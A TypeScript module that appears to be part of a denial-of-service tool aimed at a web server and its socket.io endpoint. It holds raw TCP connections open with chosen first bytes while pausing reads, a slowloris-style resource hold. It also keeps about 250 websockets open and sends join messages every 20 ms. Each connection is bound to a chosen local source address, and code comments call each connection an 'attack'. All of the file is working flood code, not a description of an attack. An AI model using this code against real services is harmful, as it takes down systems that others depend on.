import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import WebSocket from 'ws';

export interface Target {
  url: string;
  host: string;
  port: number;
  stopping: AbortSignal;
  count: (outcome: string, times?: number) => void;
}

export class Connections {
  private readonly open = new Set<Socket>();

  constructor(
    private readonly target: Target,
    private readonly localAddress: string,
  ) {
    target.stopping.addEventListener('abort', () => this.open.forEach((socket) => socket.destroy()));
  }

  get size(): number {
    return this.open.size;
  }

  /** `reads` means that the client reads the responses. */
  add(attack: string, firstBytes: string | Buffer, reads: boolean): Socket {
    const { host, port, count } = this.target;
    const socket = connect({ host, port, localAddress: this.localAddress });
    this.open.add(socket);
    socket.on('error', () => undefined);
    socket.once('close', () => {
      this.open.delete(socket);
      count(`${attack}: closed`);
    });
    socket.once('connect', () => socket.write(firstBytes));
    if (reads) socket.resume();
    else socket.pause();
    count(`${attack}: opened`);
    return socket;
  }

  async keep(most: number, pauseMs: number, add: () => unknown): Promise<void> {
    while (!this.target.stopping.aborted) {
      if (this.size < most) add();
      await sleep(pauseMs);
    }
  }
}

/** Returns 0 if the request failed. */
export function requestStatus(
  { host, port, url }: Target,
  localAddress: string,
  { method, path, body }: { method: string; path: string; body?: object },
): Promise<number> {
  return new Promise((resolve) => {
    const headers = { accept: 'application/json', 'content-type': 'application/json', origin: url };
    const outgoingRequest = request({ host, port, method, path, localAddress, headers, agent: false }, (response) => {
      response.resume().once('close', () => resolve(response.statusCode ?? 0));
    });
    outgoingRequest.setTimeout(60_000, () => outgoingRequest.destroy());
    outgoingRequest.on('error', () => resolve(0)).end(body && JSON.stringify(body));
  });
}

export async function floodSockets(target: Target, localAddress: string, topics: readonly unknown[]): Promise<void> {
  const { host, port, url, stopping, count } = target;
  const open = new Set<WebSocket>();
  stopping.addEventListener('abort', () => open.forEach((socket) => socket.terminate()));
  const join = `42["join",${JSON.stringify(topics)}]`;
  while (!stopping.aborted) {
    if (open.size < 250) {
      const address = `ws://${host}:${port}/socket.io/?EIO=4&transport=websocket`;
      const socket = new WebSocket(address, { localAddress, origin: url });
      open.add(socket);
      socket.on('open', () => (count('sockets: opened'), socket.send('40')));
      socket.on('error', () => count('sockets: refused')).on('close', () => open.delete(socket));
    }
    for (const socket of [...open].slice(0, 20)) if (socket.readyState === WebSocket.OPEN) socket.send(join);
    await sleep(20);
  }
}
